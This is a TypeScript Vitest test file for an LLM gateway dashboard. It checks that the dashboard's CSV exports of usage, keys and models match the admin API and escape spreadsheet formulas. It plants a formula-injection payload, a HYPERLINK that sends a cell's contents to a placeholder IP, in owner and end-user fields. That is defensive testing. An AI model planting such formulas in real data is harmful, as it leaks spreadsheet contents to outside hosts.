import { expect, test } from "vitest";
import { type DashboardGateway, openDashboard, startDashboardGateway } from "./dashboard.ts";
import { parseCsv } from "./parse-csv.ts";

const FORMULA = `=HYPERLINK("http://198.51.100.1/?"&A1,"details")`;
const MODELS = ["openai/gpt-4o-mini", "google/gemini-3-flash-preview"];

/** Sends one request for each of two models, and waits until their costs are known. */
async function fillLedger(gateway: DashboardGateway): Promise<void> {
  const { body: key } = await gateway.callAdmin("POST", "/keys", {
    name: "exported",
    owner: FORMULA,
    end_users: { source: "user" },
    limits: { budgets: { month: { limit_usd: "5" } } },
  });
  for (const model of MODELS) {
    const body = JSON.stringify({ model, user: FORMULA, messages: [{ role: "user", content: "Hello" }] });
    await gateway.call(key.secret, { body });
  }
  const isSettled = async (): Promise<number> =>
    (await gateway.callAdmin("GET", "/requests?state=settled")).body.data.length;
  await expect.poll(isSettled).toBe(MODELS.length);
}

test("the CSV files of the overview equal the API, and contain no formula", async () => {
  const gateway = await startDashboardGateway();
  await fillLedger(gateway);
  const dashboard = await openDashboard(gateway);
  const { page } = dashboard;
  const breakdown = page.getByRole("region", { name: "Breakdown", exact: true });
  await dashboard.signIn("/overview?by=model");
  await breakdown.getByRole("table").waitFor();
  await dashboard.waitUntilLoaded();
  const query = dashboard.watched.urls.findLast((url) => url.includes("/timeseries") && url.includes("by="));
  const { body } = await gateway.callAdmin("GET", `/timeseries${new URL(query ?? "").search}`);
  const models = parseCsv(await dashboard.download(breakdown.getByRole("button", { name: "CSV" })));
  expect(models.map(({ model, requests, cost_usd }) => ({ model, requests, cost_usd }))).toEqual(
    body.data.map((line: { model: string; total: { requests: number; cost_usd: string } }) => ({
      model: line.model,
      requests: String(line.total.requests),
      cost_usd: line.total.cost_usd,
    })),
  );
  expect(models).toHaveLength(MODELS.length);
  expect(Number(models[0]?.["cost_usd"])).toBeGreaterThan(0);

  await breakdown.getByRole("radio", { name: "End users" }).check();
  await breakdown.getByRole("table", { name: "Breakdown by end user" }).waitFor();
  const users = parseCsv(await dashboard.download(breakdown.getByRole("button", { name: "CSV" })));
  const { body: usage } = await gateway.callAdmin("GET", "/usage?by=end_user");
  expect(users).toMatchObject([
    {
      end_user: `'${FORMULA}`,
      requests: String(MODELS.length),
      cost_usd: usage.data[0].cost_usd,
    },
  ]);
});

test("the CSV files of keys and models equal the API, and contain no formula", async () => {
  const gateway = await startDashboardGateway();
  await fillLedger(gateway);
  const dashboard = await openDashboard(gateway);
  const { page } = dashboard;
  await dashboard.signIn("/keys");
  await page.getByRole("table").getByText("exported").waitFor();
  await dashboard.waitUntilLoaded();
  const card = page.getByRole("region", { name: "Keys", exact: true });
  const keys = parseCsv(await dashboard.download(card.getByRole("button", { name: "CSV" }).first()));
  const { body } = await gateway.callAdmin("GET", "/keys?include_budgets=true&include_spend=true");
  expect(keys.map(({ id, name }) => ({ id, name }))).toEqual(
    body.data.map(({ id, name }: { id: string; name: string }) => ({ id, name })),
  );
  const stored = body.data.find(({ name }: { name: string }) => name === "exported");
  expect(keys.find(({ name }) => name === "exported")).toMatchObject({
    owner: `'${FORMULA}`,
    month_cost_usd: stored.month_cost_usd,
    tightest_budget_limit_usd: "5",
    tightest_budget_remaining_usd: String(stored.current_budgets[0].remaining_usd),
  });

  await dashboard.goTo("Models");
  await dashboard.waitUntilLoaded();
  const models = parseCsv(await dashboard.download(page.getByRole("button", { name: /CSV/ })));
  const { body: catalogue } = await gateway.callAdmin("GET", "/models");
  expect(new Set(models.map(({ id }) => id))).toEqual(
    new Set(catalogue.data.map(({ id }: { id: string }) => id)),
  );
});
